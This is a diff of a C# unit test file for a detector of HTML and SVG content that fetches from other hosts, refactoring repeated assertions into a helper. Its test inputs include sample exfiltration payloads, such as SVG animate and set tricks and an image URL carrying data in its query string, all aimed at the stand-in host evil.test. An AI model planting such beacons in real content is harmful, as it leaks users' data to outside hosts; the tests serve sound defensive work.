@@ -204,7 +204,7 @@ public class ExfilTests
     [InlineData("<svg><use><animate attributeName=href values=\"#a;//evil.test/s.svg#x\" dur=1s /></use></svg>")]
     [InlineData("<svg><image><set attributeName=xlink:href to='&#x2F;&#x2F;evil.test/p.png' /></image></svg>")]
     public void Svg_that_fetches_from_another_host_is_found(string text) =>
-        Assert.Equal(("html_fetch", 0.95), Assert.Single(Exfil.Find(text, Allowed)) is var m ? (m.Label, m.Score) : default);
+        Assert.Equal(("html_fetch", 0.95), SingleFinding(text));
 
     [Theory]
     [InlineData("<svg><use href=\"#icon\"/><use xlink:href=\"/sprites.svg#a\"/><use href=\"https://example.com/s.svg#b\"/></svg>")]
@@ -254,7 +254,13 @@ public class ExfilTests
     [InlineData("<picture><source media=\"(min-width: 1px)\" srcset=\"https://evil.test/b.webp 1x\"></picture>")]
     [InlineData("<img src=\"https://evil.test/p.png?d=abcdefghijklmnopqrstuvwxyz012345\">")]
     public void Images_are_read_by_the_tag_reader(string text) =>
-        Assert.Equal(("html_image", 0.95), Assert.Single(Exfil.Find(text, Allowed)) is var m ? (m.Label, m.Score) : default);
+        Assert.Equal(("html_image", 0.95), SingleFinding(text));
+
+    private static (string Label, double Score) SingleFinding(string text)
+    {
+        var m = Assert.Single(Exfil.Find(text, Allowed));
+        return (m.Label, m.Score);
+    }
 
     private const string Long =
         "a long description of the picture, repeated to run past what the image patterns read before its source. "
